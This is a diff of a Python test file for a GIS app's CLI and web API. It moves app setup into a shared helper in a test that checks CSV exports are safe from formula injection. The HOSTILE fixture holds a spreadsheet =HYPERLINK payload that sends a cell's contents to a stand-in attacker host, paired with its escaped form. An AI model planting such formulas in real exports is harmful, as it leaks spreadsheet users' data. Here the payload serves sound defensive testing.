@@ -15,11 +15,11 @@ import pandas as pd
 import pytest
 from click.testing import CliRunner
 
-from gisapp import create_app
 from gisapp.cli import main
 from layers.letters import write_mailing_list
 from layers.sample import sample_town
 from layers.write import write_layers
+from tests.conftest import make_app
 
 HOSTILE = {
     '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -89,16 +89,7 @@ def test_web_results_csv_is_formula_safe(hostile_store, tmp_path):
         .exit_code
         == 0
     )
-    app = create_app(
-        {
-            "TESTING": True,
-            "STORE": str(store),
-            "USERS_DB": str(tmp_path / "users.sqlite"),
-            "UPLOAD_FOLDER": str(tmp_path / "uploads"),
-            "SECRET_KEY": "test",
-        }
-    )
-    response = app.test_client().get("/api/results.csv")
+    response = make_app(store, tmp_path).test_client().get("/api/results.csv")
     assert response.status_code == 200 and response.mimetype == "text/csv"
     check_results_csv(response.data, 60)
 
